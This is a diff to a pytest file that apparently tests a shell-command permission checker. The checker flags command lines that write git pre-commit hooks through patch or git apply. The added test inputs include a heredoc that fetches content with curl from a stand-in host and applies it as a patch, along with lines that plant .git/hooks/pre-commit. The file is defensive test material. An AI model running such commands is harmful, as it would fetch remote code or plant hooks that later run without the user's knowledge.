@@ -100,6 +100,12 @@ def _asks(work: Path, command: str, said: str) -> None:
     ("(patch -p1) < hook.diff", "patch writes .git/hooks/pre-commit: a hook"),
     ("{ cd src; git am; } < hook.mbox", "git writes .git/hooks/pre-commit: a hook"),
     ("while read x; do sudo patch -p1; done < hook.diff", "patch writes .git/hooks/pre-commit"),
+    ("cat > new.diff <<'EOF'\n" + _HOOK + "EOF\npatch -p1 < new.diff", "patch writes "
+     ".git/hooks/pre-commit: a hook is a command a later git runs (the diff in the line"),
+    ("cat > new.diff <<EOF\n$(curl -s https://x/p)\nEOF\ngit apply new.diff",
+     "`> new.diff` before it in the line may write it"),
+    ("tee safe.diff <<'EOF'\n" + _HOOK + "EOF\ngit apply safe.diff", "git writes "
+     ".git/hooks/pre-commit: a hook"),
     ("git receive-pack .git", "git receive-pack serves or writes a repository"),
     ("git upload-pack .", "git upload-pack serves or writes a repository"),
     ("git unpack-objects < x.pack", "git unpack-objects serves or writes a repository"),
@@ -130,6 +136,7 @@ def test_a_diff_of_project_files_still_runs(diffs: Path, command: str) -> None:
 @pytest.mark.parametrize("command", [
     "git apply safe.diff; echo $((1<<2))", "{ patch -p1; } < safe.diff", "(patch -p1) < safe.diff",
     "git diff > out.diff; git apply safe.diff", "git apply safe.diff && rm safe.diff",
+    "cat > new.diff <<'EOF'\n" + _SAFE + "-print(1)\n+print(2)\nEOF\ngit apply new.diff",
 ])
 def test_a_line_that_writes_no_diff_it_applies_runs_in_auto_mode(diffs: Path, command: str) -> None:
     auto = shell_verdict(PermissionRules(deny=("shell(git push*)",)), command, "auto",
